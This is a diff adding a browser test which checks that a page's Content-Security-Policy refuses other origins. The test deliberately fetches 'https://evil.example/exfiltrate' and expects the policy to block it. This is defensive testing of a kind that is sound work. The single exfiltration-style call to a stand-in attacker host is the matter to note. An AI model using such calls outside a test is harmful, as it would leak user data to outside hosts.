@@ -44,3 +44,18 @@ test('hostile transcript text renders inert in every view', async ({ page, baseU
   expect(foreign).toEqual([]);
   expect(errors).toEqual([]);
 });
+
+test('the page ships a Content-Security-Policy that refuses other origins', async ({ page }) => {
+  await page.goto('/');
+  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+  expect(policy).toContain("connect-src 'self';");
+  expect(policy).toContain("script-src 'self';");
+  const violations = page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
+        void fetch('https://evil.example/exfiltrate').catch(() => undefined);
+      }),
+  );
+  expect(await violations).toBe('connect-src');
+});
